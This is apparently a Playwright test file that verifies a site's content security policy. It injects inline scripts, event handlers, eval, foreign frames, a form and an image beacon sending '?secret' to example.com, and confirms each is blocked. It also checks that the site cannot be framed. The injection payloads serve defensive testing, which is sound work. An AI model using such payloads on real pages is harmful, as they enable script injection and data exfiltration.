import { expect, test } from '@playwright/test';
import { touch } from './helpers/visitor.ts';

// What somebody who got a line of markup or script into a page would try (docs/decisions/0014-content-security-policy.md).
// That the pages themselves keep to the policy is seen to in every other test: helpers/visitor.ts.

const element = (name: string, fields: object) =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${JSON.stringify(fields)}))`;
const markup = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`;
const TAKEN = 'document.title = "taken over"';
const ELSEWHERE = 'https://example.com/';

const ATTEMPTS: [what: string, directive: string, attempt: string][] = [
  ['an inline script', 'script-src-elem', element('script', { textContent: TAKEN })],
  ['an event handler in markup', 'script-src-attr', markup(`<img src="/none" onerror='${TAKEN}'>`)],
  ['a script of another site', 'script-src-elem', element('script', { src: `${ELSEWHERE}a.js` })],
  // Not at once: what the test itself runs is no concern of the policy.
  ['text run as code', 'script-src', `void setTimeout(() => (0, eval)('${TAKEN}'))`],
  ['a style in markup', 'style-src-attr', markup('<p style="position:fixed;inset:0">Pay here</p>')],
  ['a picture that carries data away', 'img-src', `new Image().src = '${ELSEWHERE}?secret'`],
  ['a request to another site', 'connect-src', `void fetch('${ELSEWHERE}').catch(() => {})`],
  ['a base address that bends links', 'base-uri', element('base', { href: ELSEWHERE })],
  ['a frame of another site', 'frame-src', element('iframe', { src: ELSEWHERE })],
  [
    'a form that leads elsewhere',
    'form-action',
    `${markup(`<form action="${ELSEWHERE}" id="trap"></form>`)}; document.querySelector('#trap').submit()`,
  ],
];

test('what is put into a page neither runs nor reaches another site', async ({ page }) => {
  const violations: string[] = [];
  const reached: string[] = [];
  await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const { reportViolation } = window as unknown as { reportViolation: (directive: string) => void };
      reportViolation(effectiveDirective);
    });
  });
  page.on('requestfinished', (request) => reached.push(request.url()));
  await page.goto('/contact');
  await touch(page);
  for (const [what, directive, attempt] of ATTEMPTS) {
    violations.length = 0;
    await page.evaluate(`{ ${attempt} }`);
    await expect.poll(() => violations, what).toContain(directive);
    expect(await page.title(), what).not.toBe('taken over');
  }
  expect(reached.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
});

test('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
  const other = baseURL!.replace('127.0.0.1', 'localhost');
  await page.route(`${other}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/book"></iframe>` }),
  );
  await page.goto(`${other}/`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);

  // It is the headers that keep it out.
  const body = await (await page.request.get('/book')).text();
  await page.route(`${baseURL}/book`, (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.reload();
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible();
});
